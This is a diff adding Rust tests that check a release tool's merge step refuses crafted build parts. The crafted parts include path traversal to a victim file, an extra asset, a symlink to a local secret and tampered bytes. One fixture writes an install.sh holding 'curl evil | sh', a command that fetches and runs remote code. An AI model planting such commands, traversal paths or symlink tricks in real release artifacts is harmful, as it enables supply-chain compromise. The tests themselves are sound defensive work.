@@ -654,3 +654,202 @@ fn a_panic_message_is_masked_and_exits_3() {
     assert!(stderr.contains("boom ***"), "{stderr}");
     assert!(!stderr.contains("tok-123456789"), "{stderr}");
 }
+
+// Class 4: `release --merge` and crafted parts.
+
+/// A committed two-target project; `linux-x64` built as a split part into `parts/a`, and
+/// `parts/b` made from it as the `linux-arm64` part (same bytes; merge does not run them).
+fn split_parts() -> tempfile::TempDir {
+    let dir = project(
+        "version = 1\n\n[stages.build]\nuses = \"cargo\"\nlocked = false\n\
+         targets = [\"linux-x64\", \"linux-arm64\"]\n\n\
+         [stages.package]\nneeds = [\"build\"]\nuses = \"archive\"\n\n\
+         [stages.checksum]\nneeds = [\"package\"]\nuses = \"checksum\"\n\n\
+         [release.github]\nrepo = \"acme/tiny\"\n",
+    );
+    std::fs::write(dir.path().join(".gitignore"), "target/\ndist/\nparts/\n").unwrap();
+    common::git(dir.path(), &["init", "-q", "-b", "main"]);
+    common::git(dir.path(), &["add", "."]);
+    common::git(dir.path(), &["commit", "-qm", "first"]);
+    let out = shipit(dir.path())
+        .args(["build", "--split", "--targets", "linux-x64"])
+        .env("CARGO_TARGET_DIR", dir.path().join("target"))
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(0), "{:?}", text(&out));
+    std::fs::create_dir(dir.path().join("parts")).unwrap();
+    let a = dir.path().join("parts/a");
+    std::fs::rename(dir.path().join("dist"), &a).unwrap();
+    let b = dir.path().join("parts/b");
+    for entry in walkdir::WalkDir::new(&a).into_iter().filter_map(Result::ok) {
+        let rel = entry.path().strip_prefix(&a).unwrap().display().to_string();
+        let to = b.join(rel.replace("linux-x64", "linux-arm64"));
+        if entry.file_type().is_dir() {
+            std::fs::create_dir_all(&to).unwrap();
+        } else {
+            std::fs::copy(entry.path(), &to).unwrap();
+        }
+    }
+    let manifest = read(&b.join("manifest.json"))
+        .replace("linux-x64", "linux-arm64")
+        .replace("x86_64-unknown-linux-gnu", "aarch64-unknown-linux-gnu")
+        .replace("\"arch\": \"x64\"", "\"arch\": \"arm64\"");
+    std::fs::write(b.join("manifest.json"), manifest).unwrap();
+    dir
+}
+
+/// Edits a part's manifest as JSON.
+fn edit_manifest(part: &Path, edit: impl FnOnce(&mut serde_json::Value)) {
+    let path = part.join("manifest.json");
+    let mut value: serde_json::Value = serde_json::from_str(&read(&path)).unwrap();
+    edit(&mut value);
+    std::fs::write(&path, serde_json::to_string_pretty(&value).unwrap()).unwrap();
+}
+
+fn merge(dir: &Path) -> (Option<i32>, String) {
+    let out = shipit(dir)
+        .args(["release", "--merge", "parts/a", "parts/b"])
+        .env("GITHUB_TOKEN", "unused-token")
+        // Nothing listens there: a merge that got through would fail to publish, with exit 1.
+        .env("GITHUB_API_URL", "http://127.0.0.1:9")
+        .output()
+        .unwrap();
+    (out.status.code(), text(&out).1)
+}
+
+/// Nothing of the merge reached dist: no artifact, no staging folder.
+fn assert_no_half_merge(dir: &Path) {
+    let dist = dir.join("dist");
+    let left: Vec<String> = walkdir::WalkDir::new(&dist)
+        .into_iter()
+        .filter_map(Result::ok)
+        .filter(|e| e.file_type().is_file())
+        .map(|e| e.path().display().to_string())
+        .collect();
+    assert!(left.is_empty(), "dist holds a half merge: {left:?}");
+}
+
+#[test]
+fn merge_part_naming_a_path_outside_its_folder_is_refused_and_nothing_is_written() {
+    let dir = split_parts();
+    let victim = dir.path().join("victim.txt");
+    std::fs::write(&victim, "precious\n").unwrap();
+    edit_manifest(&dir.path().join("parts/b"), |m| {
+        let artifacts = m["artifacts"].as_array_mut().unwrap();
+        artifacts[0]["path"] = "../../victim.txt".into();
+    });
+    let (code, err) = merge(dir.path());
+    assert_eq!(code, Some(2), "{err}");
+    assert!(err.contains("climbs out"), "{err}");
+    assert_eq!(read(&victim), "precious\n");
+    assert_no_half_merge(dir.path());
+}
+
+#[test]
+fn merge_part_adding_an_asset_or_a_target_it_was_not_asked_for_is_refused() {
+    let dir = split_parts();
+    let a = dir.path().join("parts/a");
+    // An extra file, listed with its true hash.
+    std::fs::write(a.join("install.sh"), "curl evil | sh\n").unwrap();
+    edit_manifest(&a, |m| {
+        let mut extra = m["artifacts"][0].clone();
+        extra["path"] = "install.sh".into();
+        extra["name"] = "install.sh".into();
+        m["artifacts"].as_array_mut().unwrap().push(extra);
+    });
+    let (code, err) = merge(dir.path());
+    assert_eq!(code, Some(2), "{err}");
+    assert!(err.contains("does not expect"), "{err}");
+    assert_no_half_merge(dir.path());
+
+    // Part a brings part b's archive (the Homebrew formula would point at it).
+    let dir = split_parts();
+    let (a, b) = (dir.path().join("parts/a"), dir.path().join("parts/b"));
+    let b_manifest: serde_json::Value =
+        serde_json::from_str(&read(&b.join("manifest.json"))).unwrap();
+    let archive = b_manifest["artifacts"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|x| x["kind"] == "archive")
+        .unwrap()
+        .clone();
+    let name = archive["path"].as_str().unwrap().to_string();
+    std::fs::copy(b.join(&name), a.join(&name)).unwrap();
+    edit_manifest(&a, |m| m["artifacts"].as_array_mut().unwrap().push(archive));
+    let (code, err) = merge(dir.path());
+    assert_eq!(code, Some(2), "{err}");
+    assert!(
+        err.contains(&name) && err.contains("does not expect"),
+        "{err}"
+    );
+
+    // A part claiming a target the pipeline does not build.
+    let dir = split_parts();
+    edit_manifest(&dir.path().join("parts/a"), |m| {
+        m["split"] = serde_json::json!(["linux-x64", "darwin-arm64"]);
+    });
+    let (code, err) = merge(dir.path());
+    assert_eq!(code, Some(2), "{err}");
+    assert!(err.contains("does not build"), "{err}");
+}
+
+#[test]
+fn merge_part_smuggling_a_local_file_through_a_symlink_is_refused() {
+    let dir = split_parts();
+    let b = dir.path().join("parts/b");
+    let secret = dir.path().join("secret.txt");
+    std::fs::write(&secret, "local secret\n").unwrap();
+    let manifest: serde_json::Value =
+        serde_json::from_str(&read(&b.join("manifest.json"))).unwrap();
+    let name = manifest["artifacts"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|x| x["kind"] == "archive")
+        .unwrap()["path"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    std::fs::remove_file(b.join(&name)).unwrap();
+    std::os::unix::fs::symlink(&secret, b.join(&name)).unwrap();
+    // The manifest tells the truth about the linked file, so only the link gives it away.
+    let sha = {
+        let out = std::process::Command::new("sha256sum")
+            .arg(&secret)
+            .output()
+            .unwrap();
+        text(&out).0.split_whitespace().next().unwrap().to_string()
+    };
+    edit_manifest(&b, |m| {
+        for artifact in m["artifacts"].as_array_mut().unwrap() {
+            if artifact["path"] == name.as_str() {
+                artifact["sha256"] = sha.clone().into();
+                artifact["size"] = 13.into();
+            }
+        }
+    });
+    let (code, err) = merge(dir.path());
+    assert_eq!(code, Some(2), "{err}");
+    assert!(err.contains("symbolic link"), "{err}");
+    assert_no_half_merge(dir.path());
+}
+
+#[test]
+fn merge_part_with_tampered_bytes_leaves_no_half_merge() {
+    let dir = split_parts();
+    let b = dir.path().join("parts/b");
+    let manifest: serde_json::Value =
+        serde_json::from_str(&read(&b.join("manifest.json"))).unwrap();
+    let last = manifest["artifacts"].as_array().unwrap().last().unwrap()["path"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let mut bytes = std::fs::read(b.join(&last)).unwrap();
+    bytes[0] ^= 1;
+    std::fs::write(b.join(&last), bytes).unwrap();
+    let (code, err) = merge(dir.path());
+    assert_eq!(code, Some(2), "{err}");
+    assert!(err.contains("does not match"), "{err}");
+    assert_no_half_merge(dir.path());
+}
